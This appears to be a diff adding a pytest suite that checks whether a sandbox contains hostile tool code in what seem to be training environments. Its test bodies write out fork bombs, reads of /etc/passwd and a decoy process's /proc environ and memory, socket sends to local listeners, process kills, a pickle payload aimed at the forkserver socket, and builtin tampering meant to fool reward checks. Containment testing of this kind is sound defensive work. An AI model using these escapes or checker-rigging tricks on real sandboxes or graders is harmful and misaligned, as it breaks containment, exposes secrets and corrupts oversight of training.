@@ -1,0 +1,311 @@
+"""Hostile suite (notes/sandbox.md §4-5): every attack runs as a tool body with the lint bypassed, and each test
+asserts external evidence (no marker file, a listener got nothing, the decoy and the parent live, no process
+survived, no secret leaked) plus that a fresh episode still runs correctly afterwards."""
+
+from __future__ import annotations
+
+import multiprocessing
+import os
+import shutil
+import socket
+import subprocess
+import sys
+import tempfile
+import threading
+import time
+from pathlib import Path
+
+import pytest
+
+from builder.config import SandboxConfig
+from builder.envs.checks import CheckSpec, run_checks
+from builder.envs.schema import EnvInterface
+from builder.envs.session import Session, SessionError
+from builder.sandbox.runtime import Sandbox
+
+SECRET = "sk-decoy-SECRET-4242"
+COUNTER = (Path(__file__).parent / "fixtures" / "envs" / "counter.py").read_text()
+FAST = SandboxConfig(call_timeout_s=0.5, kill_grace_s=0.5, memory_mb=256)
+
+
+class Listener:
+    """A TCP, a UDP and an abstract unix listener that record every byte they receive."""
+
+    def __init__(self) -> None:
+        self.received: list[bytes] = []
+        self.tcp = socket.create_server(("127.0.0.1", 0))
+        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+        self.udp.bind(("127.0.0.1", 0))
+        self.unix_name = f"\0builder-attack-{os.getpid()}"
+        self.unix = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
+        self.unix.bind(self.unix_name)
+        self.unix.listen()
+        for server in (self.tcp, self.unix):
+            threading.Thread(target=self._accept, args=(server,), daemon=True).start()
+        threading.Thread(target=self._datagrams, daemon=True).start()
+
+    def _accept(self, server: socket.socket) -> None:
+        while True:
+            try:
+                connection, _ = server.accept()
+            except OSError:
+                return
+            self.received.append(b"<connect>" + connection.recv(1024))
+
+    def _datagrams(self) -> None:
+        while True:
+            try:
+                self.received.append(self.udp.recv(1024))
+            except OSError:
+                return
+
+    def close(self) -> None:
+        for server in (self.tcp, self.udp, self.unix):
+            server.close()
+
+
+@pytest.fixture(scope="module")
+def world():
+    """The targets: a shared world-writable folder, listeners, a decoy 'trainer' holding a secret, a forkserver."""
+    os.environ["BUILDER_TEST_SECRET"] = SECRET  # the parent's environment must never reach a worker
+    folder = Path(tempfile.mkdtemp(prefix="builder-attack-"))
+    folder.chmod(0o777)  # only the sandbox may stop a write here, not file permissions
+    decoy = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(600)"], env={"FAKE_API_KEY": SECRET})
+    listener = Listener()
+    context = multiprocessing.get_context("forkserver")
+    process = context.Process(target=time.sleep, args=(0,))
+    process.start()
+    process.join()
+    from multiprocessing import forkserver
+
+    preload = ("pickle", "subprocess", "threading", "socket", "ctypes", "resource", "signal", "builtins")
+    with Sandbox(FAST, preload=preload) as sandbox:
+        yield {
+            "sandbox": sandbox, "folder": folder, "decoy": decoy, "listener": listener,
+            "forkserver": forkserver._forkserver._forkserver_address,
+        }  # fmt: skip
+    listener.close()
+    decoy.kill()
+    decoy.wait()
+    shutil.rmtree(folder, ignore_errors=True)
+    del os.environ["BUILDER_TEST_SECRET"]
+
+
+def attack(world, body: str, state=None):
+    """Run `body` as the tool `go` of a fresh unlinted environment; returns (result, worker pid)."""
+    replacements = {
+        "FOLDER": str(world["folder"]), "TCP_PORT": str(world["listener"].tcp.getsockname()[1]),
+        "UDP_PORT": str(world["listener"].udp.getsockname()[1]), "UNIX_NAME": repr(world["listener"].unix_name),
+        "DECOY": str(world["decoy"].pid), "FORKSERVER": repr(world["forkserver"]), "PARENT": str(os.getpid()),
+    }  # fmt: skip
+    for key, value in replacements.items():
+        body = body.replace(key, value)
+    source = "import os, sys, time, socket, signal, ctypes, pickle, threading, subprocess, builtins, math\n" \
+             "class T:\n    def __init__(self):\n        self.n = 0\n    def go(self) -> object:\n" + \
+             "".join(f"        {line}\n" for line in body.splitlines())  # fmt: skip
+    tool = {"type": "function", "function": {"name": "go", "description": "",
+            "parameters": {"type": "object", "properties": {}, "required": []}}}  # fmt: skip
+    session = Session(world["sandbox"], source, state, interface=EnvInterface(class_name="T", tools=(tool,)))
+    pid = session._worker.pid
+    try:
+        return session.call("go"), pid
+    finally:
+        session.close()
+
+
+def assert_contained(world, pid: int) -> None:
+    """External evidence shared by every attack, then a fresh episode must work."""
+    time.sleep(0.05)
+    assert world["decoy"].poll() is None, "decoy trainer died"
+    assert not list(world["folder"].iterdir()), "a marker file appeared"
+    assert not world["listener"].received, f"listener got {world['listener'].received}"
+    assert not _descendants(pid), "a process of the worker survived"
+    with Session(world["sandbox"], COUNTER, {"value": 41}) as session:
+        assert session.call("increment", {}).result == 42
+
+
+def _descendants(pid: int) -> list[int]:
+    found = []
+    for entry in os.listdir("/proc"):
+        if entry.isdigit():
+            try:
+                stat = Path(f"/proc/{entry}/stat").read_text()
+            except OSError:
+                continue
+            if int(stat.rsplit(")", 1)[1].split()[1]) == pid:
+                found.append(int(entry))
+    return found
+
+
+HARD_KILLS = {
+    "except_baseexception_loop": "while True:\n    try:\n        self.n += 1\n    except BaseException:\n        pass",
+    "sigalrm_ignored": "signal.signal(signal.SIGALRM, signal.SIG_IGN)\nwhile True:\n    pass",
+    "alarm_disarmed": "while True:\n    signal.setitimer(signal.ITIMER_REAL, 0)",
+    "c_loop_deque": "import collections, itertools\ncollections.deque(itertools.count(), maxlen=0)",
+    "c_loop_sum": "return sum(range(10**13))",
+}
+
+
+@pytest.mark.parametrize("name", sorted(HARD_KILLS))
+def test_uninterruptible_code_is_killed_at_the_deadline(world, name):
+    started = time.monotonic()
+    result, pid = attack(world, HARD_KILLS[name])
+    elapsed = time.monotonic() - started
+    assert result.error_kind == "timeout" and elapsed < 2.5
+    assert_contained(world, pid)
+
+
+BLOCKED = {  # body -> the result must be an error value or a contained failure; evidence checked after
+    "python_loop_soft_timeout": ("while True:\n    pass", "timeout"),
+    "memory_bomb": ("return len(b'x' * (3 << 30))", "memory"),
+    "slow_memory_growth": ("keep = []\nwhile True:\n    keep.append(b'x' * (1 << 20))", "memory|timeout|crashed"),  # under heavy load the hard deadline may win
+    "thread_spin": ("t = threading.Thread(target=lambda: [0 for _ in iter(int, 1)])\nt.start()", "raised"),
+    "fork_bomb": ("for _ in range(200):\n    os.fork()", "raised"),
+    "setsid_grandchild": ("if os.fork() == 0:\n    os.setsid()\n    time.sleep(600)", "raised"),
+    "subprocess_run": ("subprocess.run(['touch', 'FOLDER/subprocess'])", "raised"),
+    "os_system": ("return os.system('touch FOLDER/system')", None),
+    "read_etc_passwd": ("return open('/etc/passwd').read()", "raised"),
+    "read_decoy_environ": ("return open('/proc/DECOY/environ').read()", "raised"),
+    "write_decoy_memory": ("return os.open('/proc/DECOY/mem', os.O_RDWR)", "raised"),
+    "list_tmp": ("return os.listdir('/tmp')", "raised"),
+    "write_file": ("open('FOLDER/written', 'w').write('x')", "raised"),
+    "write_50mib_file": ("fd = os.open('FOLDER/big', os.O_WRONLY | os.O_CREAT)\nos.write(fd, b'x' * (50 << 20))",
+                         "raised"),
+    "tcp_connect": ("s = socket.create_connection(('127.0.0.1', TCP_PORT))\ns.sendall(b'PWNED')", "raised"),
+    "udp_sendto": ("socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'PWNED', ('127.0.0.1', UDP_PORT))",
+                   "raised"),
+    "abstract_unix_socket": ("s = socket.socket(socket.AF_UNIX)\ns.connect(UNIX_NAME)\ns.sendall(b'PWNED')",
+                             "raised"),
+    "kill_decoy_trainer": ("os.kill(DECOY, signal.SIGTERM)", "raised"),
+    "kill_parent_and_zygote": ("os.kill(os.getppid(), signal.SIGKILL)\nos.kill(PARENT, signal.SIGKILL)", "raised"),
+    "ptrace_like_read": ("libc = ctypes.CDLL(None)\nreturn libc.syscall(310, DECOY, 0, 0, 0, 0, 0)", None),
+    "raise_own_rlimit": ("import resource\nresource.setrlimit(resource.RLIMIT_AS, (-1, -1))", "raised"),
+    "import_unloaded_module": ("import sqlite3", "raised"),
+    "segfault": ("ctypes.memmove(8, b'x', 1)", "crashed"),
+    "c_stack_overflow": ("sys.setrecursionlimit(10**7)\nx = []\nfor _ in range(10**6):\n    x = [x]\nreturn repr(x)",
+                         None),
+    "os_exit": ("os._exit(3)", "crashed"),
+    "huge_result": ("return 'x' * (50 << 20)", "too_large|timeout"),  # encoding 50 MB may outlast 0.5 s
+    "non_json_result": ("return (i for i in range(3))", "not_json"),
+}  # fmt: skip
+
+
+@pytest.mark.parametrize("name", sorted(BLOCKED))
+def test_attack_is_contained(world, name):
+    body, kind = BLOCKED[name]
+    result, pid = attack(world, body)
+    if kind is not None:
+        assert result.error_kind in kind.split("|"), result
+    else:  # os.system answers 127<<8 and runs nothing; a raw syscall answers -1 (EPERM)
+        assert not result.ok or result.result in (32512, -1), result
+    assert SECRET not in result.content() and "root:x:0" not in result.content()
+    assert_contained(world, pid)
+
+
+def test_clean_environment_has_no_secret(world):
+    result, pid = attack(world, "return dict(os.environ)")
+    assert set(result.result) <= {"PATH", "LC_ALL", "PYTHONHASHSEED", "PYTHONDONTWRITEBYTECODE"}
+    assert SECRET not in result.content()
+    assert_contained(world, pid)
+
+
+def test_inherited_stderr_goes_nowhere(world):
+    session = Session(world["sandbox"], COUNTER)
+    try:
+        pid = session._worker.pid
+        assert {os.readlink(f"/proc/{pid}/fd/{fd}") for fd in (0, 1, 2)} == {"/dev/null"}
+        assert len(os.listdir(f"/proc/{pid}/fd")) <= 5  # stdio plus its two pipes: nothing of the parent
+    finally:
+        session.close()
+
+
+def test_forkserver_socket_escape(world):
+    body = (
+        "class P:\n    def __reduce__(self):\n        return (os.system, ('touch FOLDER/forkserver',))\n"
+        "s = socket.socket(socket.AF_UNIX)\ns.connect(FORKSERVER)\nr, w = os.pipe()\n"
+        "os.write(w, pickle.dumps(P()))\nsocket.send_fds(s, [b'x'], [r, w, r, w])"
+    )
+    result, pid = attack(world, body)
+    assert result.error_kind == "raised"
+    time.sleep(0.3)
+    assert_contained(world, pid)
+
+
+def test_worker_sending_a_pickle_is_never_unpickled(world):
+    body = (
+        "class P:\n    def __reduce__(self):\n        return (os.system, ('touch FOLDER/unpickled',))\n"
+        "payload = pickle.dumps(P())\n"
+        "sys.modules['frames'].encode = lambda message: len(payload).to_bytes(4, 'big') + payload\n"
+        "return 1"
+    )
+    result, pid = attack(world, body)
+    assert not result.ok and result.error_kind in ("protocol", "crashed")
+    assert_contained(world, pid)
+
+
+def test_forged_giant_frame_header_kills_the_worker(world):
+    body = "sys.modules['frames'].encode = lambda message: (2**31).to_bytes(4, 'big') + b'x'\nreturn 1"
+    result, pid = attack(world, body)
+    assert result.error_kind == "too_large"
+    assert_contained(world, pid)
+
+
+def test_rlimit_still_applies_after_an_attempt_to_raise_it(world):
+    session = Session(world["sandbox"], COUNTER)
+    try:
+        limits = Path(f"/proc/{session._worker.pid}/limits").read_text()
+        assert "Max address space" in limits and str(FAST.memory_mb * 1024 * 1024) in limits
+    finally:
+        session.close()
+
+
+def test_crash_does_not_affect_a_sibling_episode(world):
+    with Session(world["sandbox"], COUNTER) as sibling:
+        sibling.call("increment", {"by": 5})
+        result, pid = attack(world, "ctypes.memmove(8, b'x', 1)")
+        assert result.error_kind == "crashed"
+        assert sibling.call("increment", {}).result == 6
+
+
+TAMPER = (
+    "import builtins, math, json\n"
+    "builtins.all = lambda *a: True\nbuiltins.sorted = lambda *a: [1000]\nmath.isclose = lambda *a, **k: True\n"
+    "json.loads = lambda *a, **k: {'n': 1000}\n"
+    "class S(str):\n    def __eq__(self, other):\n        return True\n    __hash__ = str.__hash__\n"
+    "self.name = S('mallory')\nself.n = 1\nreturn True"
+)
+CHECKS = [
+    CheckSpec(name="all", source="def check(i, f):\n    return all(x > 100 for x in [f['n']])\n"),
+    CheckSpec(name="isclose", source="import math\ndef check(i, f):\n    return math.isclose(f['n'], 1000)\n"),
+    CheckSpec(name="eq", source="def check(i, f):\n    return f['name'] == 'alice'\n"),
+    CheckSpec(name="isinstance", source="def check(i, f):\n    return isinstance(f['n'], str)\n"),
+]
+
+
+def test_environment_cannot_fool_its_checker(world):
+    source = "import builtins, math, json\nclass T:\n    def __init__(self):\n        self.n = 0\n" \
+             "    def go(self) -> object:\n" + "".join(f"        {line}\n" for line in TAMPER.splitlines())
+    tool = {"type": "function", "function": {"name": "go", "description": "",
+            "parameters": {"type": "object", "properties": {}, "required": []}}}  # fmt: skip
+    with Session(world["sandbox"], source, interface=EnvInterface(class_name="T", tools=(tool,))) as session:
+        assert session.call("go").ok
+        final = session.snapshot()
+    assert final == {"n": 1, "name": "mallory"}  # plain JSON: the rigged str became a str
+    verdict = run_checks(world["sandbox"], CHECKS, {"n": 0}, final)
+    assert [c.passed for c in verdict.checks] == [False, False, False, False] and verdict.reward == 0.0
+
+
+def test_object_with_rigged_eq_cannot_enter_the_state(world):
+    body = "class Any:\n    def __eq__(self, other):\n        return True\nself.n = Any()\nreturn 1"
+    result, pid = attack(world, body)
+    assert result.ok
+    tool = {"type": "function", "function": {"name": "go", "description": "",
+            "parameters": {"type": "object", "properties": {}, "required": []}}}  # fmt: skip
+    source = "class T:\n    def __init__(self):\n        self.n = 0\n    def go(self) -> object:\n" \
+             "        class Any:\n            def __eq__(self, other):\n                return True\n" \
+             "        self.n = Any()\n        return 1\n"
+    with Session(world["sandbox"], source, interface=EnvInterface(class_name="T", tools=(tool,))) as session:
+        session.call("go")
+        with pytest.raises(SessionError, match="not JSON"):
+            session.snapshot()
+    assert_contained(world, pid)
